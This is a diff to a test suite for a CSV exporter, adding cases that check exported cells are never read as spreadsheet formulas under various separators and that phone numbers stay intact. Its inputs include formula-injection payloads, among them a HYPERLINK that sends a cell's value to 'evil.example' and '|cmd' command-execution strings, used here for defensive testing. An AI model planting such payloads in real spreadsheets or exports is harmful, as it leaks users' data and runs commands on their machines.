@@ -342,8 +342,14 @@ describe('No cell that is exported', () => {
     ' =1+1',
     '\u00a0=1+1',
     '＝1+1',
-    '＋1',
+    '＋1+1',
     '－1+1',
+    '-1+1',
+    '+1*cmd',
+    '-2+3|cmd',
+    '+A1',
+    '--1',
+    '+49 30+1',
     '＠SUM(1)',
     'a;"=1+1";b',
     'a\n-1+1|cmd',
@@ -352,20 +358,62 @@ describe('No cell that is exported', () => {
     "'=1",
     "a;''=1",
   ])('becomes a formula, however a spreadsheet splits it: %j', (text) => {
-    const csv = toCsv(['Name'], [[text]]).slice(1);
+    const csv = toCsv(['Name'], [[text]], ',').slice(1);
     for (const part of csv.slice(csv.indexOf('\r\n') + 2).split(separators)) expect(part).not.toMatch(formula);
     const read = readCsv(csv);
     expect('problem' in read ? read : read.rows[0]?.cells).toEqual([text.trim()]);
   });
 
+  test.each(['Lamp,=HYPERLINK("http://evil.example?x="&A1,"open")', 'a,=1+1', 'a, @SUM(A1),-1+1', "a,'=1"])(
+    'becomes a formula where the separator is another than the comma: %j',
+    (text) => {
+      const csv = toCsv(['Name', 'Size'], [[text, 'X']], ';').slice(1);
+      for (const part of csv.slice(csv.indexOf('\r\n') + 2).split(separators)) expect(part).not.toMatch(formula);
+      const read = readCsv(csv);
+      expect('problem' in read ? read : read.rows[0]?.cells).toEqual([text, 'X']);
+    },
+  );
+
+  test('is a sign before digits: it stays as it is, and so does one of an earlier file, or with an apostrophe of its own', () => {
+    const texts = [
+      '+49 30 1234',
+      '+1 (555) 010-0199',
+      '+358-40-123',
+      '+5',
+      '-5',
+      '-1 234,50',
+      '-1.5',
+      '-5 %',
+      '-$3.00',
+      '+49/30',
+    ];
+    for (const delimiter of [',', ';', '\t']) {
+      const csv = toCsv(['One', 'Two'], [texts, texts.map((text) => `'${text}`)], delimiter).slice(1);
+      expect(csv).toContain(
+        `\n+49 30 1234${delimiter}+1 (555) 010-0199${delimiter}+358-40-123${delimiter}+5${delimiter}-5`,
+      );
+      const read = readCsv(csv);
+      expect('problem' in read ? read : read.rows.map(({ cells }) => cells)).toEqual([
+        texts,
+        texts.map((text) => `'${text}`),
+      ]);
+    }
+    const earlier = readCsv("One,Two\r\n'+49 30 1234,'-20 % week");
+    expect('problem' in earlier ? earlier : earlier.rows[0]?.cells).toEqual(['+49 30 1234', '-20 % week']);
+  });
+
   test('comes back as another text', () => {
-    const texts = fc.string({ unit: fc.constantFrom(...'=+-@＝－\';,\t\n\r" 1a'.split('')), maxLength: 8 });
+    const texts = fc.string({ unit: fc.constantFrom(...'=+-@＝－\';,\t\n\r" 1a('.split('')), maxLength: 8 });
     fc.assert(
-      fc.property(fc.array(fc.tuple(texts, texts), { minLength: 1 }), (rows) => {
-        const read = readCsv(toCsv(['One', 'Two'], rows).slice(1));
-        const filled = rows.map((row) => row.map((text) => text.trim())).filter((row) => row.some(Boolean));
-        expect('problem' in read ? [] : read.rows.map(({ cells }) => cells)).toEqual(filled);
-      }),
+      fc.property(
+        fc.array(fc.tuple(texts, texts), { minLength: 1 }),
+        fc.constantFrom(',', ';', '|', '\t'),
+        (rows, by) => {
+          const read = readCsv(`sep=${by}\r\n${toCsv(['One', 'Two'], rows, by).slice(1)}`);
+          const filled = rows.map((row) => row.map((text) => text.trim())).filter((row) => row.some(Boolean));
+          expect('problem' in read ? [] : read.rows.map(({ cells }) => cells)).toEqual(filled);
+        },
+      ),
     );
   });
 });
